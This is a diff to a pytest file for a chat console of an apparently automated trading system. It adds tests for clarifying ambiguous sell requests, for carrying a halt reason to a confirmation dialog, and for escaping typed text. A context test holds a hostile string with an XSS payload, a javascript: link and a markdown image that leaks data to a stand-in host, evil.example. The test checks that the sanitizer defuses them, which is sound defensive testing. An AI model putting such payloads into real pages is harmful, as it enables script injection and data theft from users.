@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import asyncio
+import re
+from typing import Any
+
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from ui.console.chat import Chat
-from ui.console.chat.said import plain, table
+from ui.console.chat.said import bare, plain, table
 from ui.server.access import Identity
 from ui.server.house import House
 
@@ -24,7 +30,7 @@ def test_without_a_guard_it_says_so_and_names_no_equity(house: House) -> None:
 
 
 def test_before_the_first_decision_there_is_nothing_to_explain(house: House) -> None:
-    assert "nothing has been decided yet" in answer(house, "why?")
+    assert "Nothing has been decided yet" in answer(house, "why?")
     assert "none of its forecasts" in answer(house, "how did the news agent do")
 
 
@@ -63,8 +69,30 @@ def test_the_terms_of_a_trade_are_kept_with_its_word(house: House) -> None:
     assert terms == {"symbol": "ETHUSDT", "action": "OPEN_SHORT", "conviction": "0.4"}
 
 
+def test_selling_is_asked_back_for_it_may_mean_to_close_or_to_go_short(house: House) -> None:
+    assert "/close BTCUSDT, or /short BTCUSDT" in answer(house, "sell my BTC").replace("\\", "")
+    assert not house.access.confirmations._open
+
+
+def test_the_reason_that_was_given_reaches_the_dialog(house: House) -> None:
+    async def asked() -> Any:
+        with house.hub.listening(OPERATOR.session) as page:
+            answer(house, "/halt the model is drunk")
+            [event] = await page.next(1.0)
+        return event["confirm"]["reason"]
+
+    assert asyncio.run(asked()) == "the model is drunk"
+
+
 def test_a_strangers_text_does_nothing_in_a_table() -> None:
     hostile = "<img src=x onerror=alert(1)> [click](javascript:x) | ![leak](https://evil.example/?d=1)"
     assert "<img" not in plain(hostile).replace("\\<", "")
     assert "\\!\\[" in plain(hostile)
     assert table(("a",), [(hostile,)]).count("\n") == 2
+
+
+@given(st.text(max_size=200))
+def test_what_was_typed_is_shown_as_it_was_typed_and_understood_as_it_was_meant(typed: str) -> None:
+    shown = plain(typed)
+    assert bare(shown) == " ".join(typed.split())
+    assert not re.search(r"(?<!\\)[*`<\[!]", shown.replace("\\\\", ""))
